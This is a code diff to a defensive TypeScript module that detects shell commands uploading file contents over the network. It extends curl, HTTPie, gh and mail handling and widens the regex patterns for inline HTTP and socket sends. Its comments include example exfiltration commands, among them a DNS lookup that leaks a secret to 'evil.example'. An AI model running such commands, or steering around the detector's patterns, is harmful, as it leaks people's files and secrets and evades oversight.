@@ -2,7 +2,13 @@
 // program sends (curl -F x=@f, scp f host:, nc host 9 < f) and the files whose bytes reach one
 // through a pipe or a substitution (cat f | nc host 9, curl -d "$(cat f)"). Pure functions.
 import type { ShellCommand, ShellWord } from '../runtime/shell/types.ts';
-import { argumentsOf, inlineCode, operands, optionValues } from './command-effects.ts';
+import {
+  argumentsOf,
+  clusteredValues,
+  inlineCode,
+  operands,
+  optionValues,
+} from './command-effects.ts';
 import { COPY_OPTIONS, operandWords } from './network-words.ts';
 
 /** Programs that send their arguments, stdin or named files to another machine. */
@@ -32,6 +38,7 @@ export const NETWORK_PROGRAMS: ReadonlySet<string> = new Set([
   'sendmail',
   'mutt',
   'git',
+  'gh',
   // A lookup carries its name to the resolver: dig $(cat secret).evil.example.
   'dig',
   'nslookup',
@@ -62,16 +69,37 @@ export function uploadWords(command: ShellCommand): UploadWord[] {
   const args = command.args;
   switch (command.binary) {
     case 'curl':
+      // Short options in any cluster (`-sT f`, `-fsSd @f`).
       return [
-        ...optionValues(
-          args,
-          ['-d', '-F'],
-          ['--data', '--data-binary', '--data-ascii', '--data-urlencode', '--json', '--form'],
-        ).map((word) => ({ word, atFile: true })),
-        ...plain(optionValues(args, ['-T'], ['--upload-file'])),
-      ];
+        ...clusteredValues(args, 'd', [
+          '--data',
+          '--data-binary',
+          '--data-ascii',
+          '--data-urlencode',
+          '--json',
+        ]),
+        ...clusteredValues(args, 'F', ['--form']),
+      ]
+        .map((word) => ({ word, atFile: true }))
+        .concat(plain(clusteredValues(args, 'T', ['--upload-file'])));
     case 'wget':
       return plain(optionValues(args, [], ['--post-file', '--body-file']));
+    case 'http':
+    case 'https':
+    case 'xh':
+      // HTTPie's request items: `field@file` (a file upload), `field=@file`, `field:=@file`.
+      return operands(args)
+        .filter((w) => /^[^=@:/]*(?::?=)?@/.test(w.text))
+        .map((word) => ({ word, atFile: true }));
+    case 'gh':
+      return plain(ghSentFiles(args));
+    case 'mail':
+    case 'mailx':
+    case 's-nail':
+    case 'mutt':
+    case 'neomutt':
+      // Attachments.
+      return plain(optionValues(args, ['-A', '-a'], ['--attach']));
     case 'scp':
     case 'rsync':
     case 'sftp': {
@@ -84,6 +112,19 @@ export function uploadWords(command: ShellCommand): UploadWord[] {
     default:
       return [];
   }
+}
+
+/** Files gh sends to GitHub: a gist's files, a release's assets, a body read from a file. */
+function ghSentFiles(args: readonly ShellWord[]): ShellWord[] {
+  const [group, verb] = operands(args).map((w) => w.text);
+  const bodies = optionValues(args, ['-F'], ['--body-file', '--notes-file']);
+  const ops = operands(args).slice(2);
+  if (group === 'gist' && (verb === 'create' || verb === 'new' || verb === 'edit'))
+    return [...bodies, ...ops];
+  // gh release upload TAG FILE…; gh release create TAG FILE…
+  if (group === 'release' && (verb === 'upload' || verb === 'create'))
+    return [...bodies, ...ops.slice(1)];
+  return bodies;
 }
 
 /** The file named inside a curl data value: `@file`, `name@file`, `name=<file` (`;type=` cut). */
@@ -147,10 +188,10 @@ export function networkFedWords(
 }
 
 // Inline code that sends bytes to another machine: an HTTP body (requests/httpx/axios .post,
-// urlopen(…, data=…), fetch with a body, Net::HTTP.post, HTTP::Tiny, LWP, curl's POSTFIELDS) or
+// urlopen(url, data) or data=…, fetch with a body, Net::HTTP.post, HTTP::Tiny, LWP, curl's POSTFIELDS) or
 // a socket, FTP or mail connection.
 const INLINE_SENDS =
-  /\b(?:requests|httpx|axios|session)\.(?:post|put|patch)\b|(?:urlopen|Request)\s*\([^)]*\bdata\s*=|\bbody\s*:|\.sendall?\s*\(|\bsendto\s*\(|socket\.socket|\bcreate_connection\b|Net::HTTP|HTTP::Tiny|LWP::|IO::Socket|TCPSocket|\bnet\.connect|https?\.request\s*\(|CURLOPT_POSTFIELDS|fsockopen|ftplib|smtplib|paramiko/;
+  /\b(?:requests|httpx|axios|session)\.(?:post|put|patch)\b|(?:urlopen|Request)\s*\([^)]*(?:\bdata\s*=|,)|\bbody\s*:|\.sendall?\s*\(|\bsendto\s*\(|socket\.socket|\bcreate_connection\b|Net::HTTP|HTTP::Tiny|LWP::|IO::Socket|TCPSocket|\bnet\.connect|https?\.request\s*\(|CURLOPT_POSTFIELDS|fsockopen|ftplib|smtplib|paramiko/;
 // Inline code that reads a file's bytes.
 const INLINE_READS =
   /\bopen\s*\(|readFileSync|readFile\s*\(|createReadStream|File\.(?:read|open|binread)|IO\.read|file_get_contents|fopen\s*\(|read_(?:text|bytes)\s*\(|\bslurp\b|<\s*\$?\w*\s*>/;
